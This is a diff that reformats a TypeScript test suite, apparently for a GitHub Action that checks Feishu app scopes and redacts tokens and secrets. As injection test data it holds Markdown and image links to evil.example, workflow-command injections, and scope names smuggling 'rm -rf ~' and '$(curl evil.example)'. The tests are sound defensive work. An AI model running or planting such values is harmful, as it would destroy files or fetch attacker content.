@@ -18,7 +18,13 @@ afterEach(async () => {
 
 async function runWith(inputs: Record<string, string>, ...answers: Fault[]): Promise<FakeCore> {
   sandbox.failNext(...answers)
-  const core = fakeCore({ 'app-id': TEST_APP.appId, 'app-secret': TEST_APP.appSecret, 'base-url': sandbox.url, 'max-attempts': '1', ...inputs })
+  const core = fakeCore({
+    'app-id': TEST_APP.appId,
+    'app-secret': TEST_APP.appSecret,
+    'base-url': sandbox.url,
+    'max-attempts': '1',
+    ...inputs
+  })
   await run(testDeps(core))
   return core
 }
@@ -34,12 +40,22 @@ const TOKEN = issued.tenant_access_token
 
 describe('1. secrets are redacted before any text is shortened or escaped', () => {
   it.each([
-    ['msg, where a cut at 200 characters falls inside the secret', (s: string) => faults.json(400, { code: 99999, msg: `${'x'.repeat(190)}${s}` })],
-    ['error.troubleshooter', (s: string) => faults.json(400, { code: 99999, msg: 'no', error: { troubleshooter: `https://t.example/${'y'.repeat(170)}${s}` } })],
-    ['error.log_id, when no log id header came', (s: string): Fault => (req, res) => {
-      res.removeHeader('x-tt-logid')
-      faults.json(400, { code: 99999, msg: 'no', error: { log_id: `${'z'.repeat(188)}${s}` } })(req, res)
-    }],
+    [
+      'msg, where a cut at 200 characters falls inside the secret',
+      (s: string) => faults.json(400, { code: 99999, msg: `${'x'.repeat(190)}${s}` })
+    ],
+    [
+      'error.troubleshooter',
+      (s: string) => faults.json(400, { code: 99999, msg: 'no', error: { troubleshooter: `https://t.example/${'y'.repeat(170)}${s}` } })
+    ],
+    [
+      'error.log_id, when no log id header came',
+      (s: string): Fault =>
+        (req, res) => {
+          res.removeHeader('x-tt-logid')
+          faults.json(400, { code: 99999, msg: 'no', error: { log_id: `${'z'.repeat(188)}${s}` } })(req, res)
+        }
+    ],
     ['the x-tt-logid header', (s: string) => faults.json(400, { code: 99999, msg: 'no' }, { 'x-tt-logid': `${'L'.repeat(188)}${s}` })],
     ['msg, with a secret that holds Markdown and JSON metacharacters', (s: string) => faults.json(400, { code: 99999, msg: `echo ${s}` })]
   ])('%s', async (_where, answer) => {
@@ -50,7 +66,11 @@ describe('1. secrets are redacted before any text is shortened or escaped', () =
   })
 
   it('the token, echoed by the scopes call past the cut', async () => {
-    const core = await runWith({ 'required-scopes': 'im:message' }, faults.json(200, issued), faults.json(400, { code: 99991663, msg: `${'x'.repeat(185)}${TOKEN}` }))
+    const core = await runWith(
+      { 'required-scopes': 'im:message' },
+      faults.json(200, issued),
+      faults.json(400, { code: 99991663, msg: `${'x'.repeat(185)}${TOKEN}` })
+    )
     expect(core.failed).toMatch(/code 99991663/)
     expect(leaks(everywhere(core), [TOKEN, TEST_APP.appSecret])).toEqual([])
   })
@@ -58,7 +78,10 @@ describe('1. secrets are redacted before any text is shortened or escaped', () =
   it('in the built action, with the runner masking too', async () => {
     const secret = 'SECRET|with`tick0123456789abcdef'
     sandbox.failNext(faults.json(400, { code: 99999, msg: `${'x'.repeat(190)}${secret}` }, { 'x-tt-logid': `${'L'.repeat(190)}${secret}` }))
-    const result = await runAction({ inputs: { 'app-id': TEST_APP.appId, 'app-secret': secret, 'base-url': sandbox.url }, env: { RUNNER_DEBUG: '1' } })
+    const result = await runAction({
+      inputs: { 'app-id': TEST_APP.appId, 'app-secret': secret, 'base-url': sandbox.url },
+      env: { RUNNER_DEBUG: '1' }
+    })
     expect(result.exitCode).toBe(1)
     expect(findLeaks(result, [secret])).toEqual([])
   })
@@ -94,7 +117,8 @@ describe('2. the token must be a token', () => {
 
 describe('3. server text is inert in the job summary', () => {
   const md = new MarkdownIt({ html: true, linkify: true })
-  const hostile = '[click](https://evil.example/a) ![x](https://evil.example/i.png) <img src=https://evil.example/h.png> **bold** https://evil.example/auto | ` <b>'
+  const hostile =
+    '[click](https://evil.example/a) ![x](https://evil.example/i.png) <img src=https://evil.example/h.png> **bold** https://evil.example/auto | ` <b>'
 
   it.each([
     ['msg', faults.json(400, { code: 99999, msg: hostile })],
@@ -113,7 +137,13 @@ describe('3. server text is inert in the job summary', () => {
       outcome: 'failed',
       appId: 'cli_x)![i](https://evil.example/i.png)',
       gate: {
-        check: { statuses: [{ scope: 'im:message', status: 'not-configured' }], granted: [], missing: ['im:message'], unexpected: [], ignored: [] },
+        check: {
+          statuses: [{ scope: 'im:message', status: 'not-configured' }],
+          granted: [],
+          missing: ['im:message'],
+          unexpected: [],
+          ignored: []
+        },
         onMissing: 'fail',
         onUnexpected: 'ignore',
         grantLink: 'https://open.feishu.cn/app/cli_x)![i](https://evil.example/i.png)/auth?q=im:message'
@@ -135,24 +165,43 @@ describe('4. inputs cannot write workflow commands', () => {
     ['timeout-seconds', '10\n::error::injected'],
     ['app-secret', 'SECRET\n::error::injected0123456789']
   ])('%s with %j: an input error before any request, the value never printed', async (name, value) => {
-    const result = await runAction({ inputs: { 'app-id': TEST_APP.appId, 'app-secret': TEST_APP.appSecret, 'base-url': sandbox.url, [name]: value } })
+    const result = await runAction({
+      inputs: { 'app-id': TEST_APP.appId, 'app-secret': TEST_APP.appSecret, 'base-url': sandbox.url, [name]: value }
+    })
     expect(result.exitCode).toBe(1)
-    expect(result.errors).toEqual([expect.stringMatching(new RegExp(`^Input '${name}' contains a line break, control character or invisible formatting character`))])
+    expect(result.errors).toEqual([
+      expect.stringMatching(new RegExp(`^Input '${name}' contains a line break, control character or invisible formatting character`))
+    ])
     // The mask command itself carries the value, escaped: the runner reads it as one command.
-    expect(result.stdout.split('\n').filter(line => !line.startsWith('::add-mask::')).join('\n')).not.toContain('injected')
+    expect(
+      result.stdout
+        .split('\n')
+        .filter(line => !line.startsWith('::add-mask::'))
+        .join('\n')
+    ).not.toContain('injected')
     expect(result.summary).not.toContain('injected')
     expect(sandbox.requests).toHaveLength(0)
   })
 
   it('required-scopes may span lines, but not hold other control characters', async () => {
     expect((await runWith({ 'required-scopes': 'im:message\r\n\tbitable:app' })).failed).toMatch(/^1 of 2 required scopes is missing/)
-    expect((await runWith({ 'required-scopes': 'im:message\u001b[31m' })).failed).toMatch(/^Input 'required-scopes' contains .* other than line breaks and tabs/)
+    expect((await runWith({ 'required-scopes': 'im:message\u001b[31m' })).failed).toMatch(
+      /^Input 'required-scopes' contains .* other than line breaks and tabs/
+    )
   })
 })
 
 describe('5. scope outputs hold only scope names', () => {
   it('drops anything else the server lists, and says so in a debug line', async () => {
-    const names = ['im:message', 'im:message; rm -rf ~', '$(curl evil.example)', 'a:b\n::error::x', TEST_APP.appSecret, `x:${TOKEN}`, 'IM:MESSAGE']
+    const names = [
+      'im:message',
+      'im:message; rm -rf ~',
+      '$(curl evil.example)',
+      'a:b\n::error::x',
+      TEST_APP.appSecret,
+      `x:${TOKEN}`,
+      'IM:MESSAGE'
+    ]
     const core = await runWith(
       { 'required-scopes': 'im:message' },
       faults.json(200, issued),
@@ -160,7 +209,10 @@ describe('5. scope outputs hold only scope names', () => {
     )
     expect(core.failed).toBeUndefined()
     expect(core.outputs['granted-scopes']).toBe('["im:message"]')
-    expect(core.events).toContainEqual({ type: 'debug', message: expect.stringMatching(/^Left out 6 listed name\(s\) that are not scope names: /) })
+    expect(core.events).toContainEqual({
+      type: 'debug',
+      message: expect.stringMatching(/^Left out 6 listed name\(s\) that are not scope names: /)
+    })
     expect(leaks(everywhere(core), [TEST_APP.appSecret, TOKEN])).toEqual([])
     expect(core.printed).not.toMatch(/\n::/)
   })
